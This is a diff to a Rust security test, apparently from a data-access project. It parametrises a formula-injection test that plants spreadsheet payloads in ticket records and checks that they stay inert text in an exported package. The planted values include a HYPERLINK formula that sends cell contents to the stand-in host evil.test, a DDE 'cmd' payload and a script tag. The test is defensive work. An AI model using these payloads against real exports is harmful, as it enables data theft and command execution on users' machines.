@@ -3,11 +3,14 @@
 use std::io::{Cursor, Read as _};
 
 use habeas_test_support::SmtpMail;
-use habeas_tests::attack::{Letter, MALLORY, OURS, Strike, VICTIM};
+use habeas_tests::attack::{Aim, Letter, MALLORY, OURS, Strike, VICTIM};
 use reqwest::Method;
 use serde_json::json;
 
-use super::ASK;
+/// What is asked for, by whoever wants nothing but to be read.
+const ASK: &str = Aim::Access.ask();
+
+for_either_copy!(a_formula_in_the_data_is_text_in_the_package);
 
 /// For a browser, and for whatever reads XML.
 const SCRIPT: &str =
@@ -107,9 +110,8 @@ async fn markup_in_names_and_messages_stays_text() {
 }
 
 /// Facts in a store that a spreadsheet would run (CWE-1236), planted by whoever could write a ticket about the victim.
-#[tokio::test(flavor = "multi_thread")]
-async fn a_formula_in_the_data_is_text_in_the_package() {
-    let mut strike = Strike::plan("formula injection").await.unwrap();
+async fn a_formula_in_the_data_is_text_in_the_package(aim: Aim) {
+    let mut strike = Strike::plan("formula injection").await.unwrap().aiming_at(aim);
     let planted = "
         INSERT INTO tickets VALUES (11, 1001, '=HYPERLINK(\"http://evil.test/\"&A1)'), (12, 1001, '@SUM(1)'),
           (13, 1001, '+cmd|'' /C calc''!A0'), (14, 1001, char(9) || '=1+1'), (15, 1001, '<script>alert(1)</script>'),
@@ -117,7 +119,7 @@ async fn a_formula_in_the_data_is_text_in_the_package() {
     strike.target.shop.sql(planted).await.unwrap();
     strike.tally.attempt(8);
     strike.begin_again().await.unwrap();
-    strike.target.staff.ask(VICTIM, &["access"]).await.unwrap();
+    strike.ask_in_her_name().await.unwrap();
     strike.victim.confirm().await.unwrap();
     let link = strike.victim.link("/package/").await.unwrap();
     let zip = strike.victim.fetch(&link).await.unwrap().body;
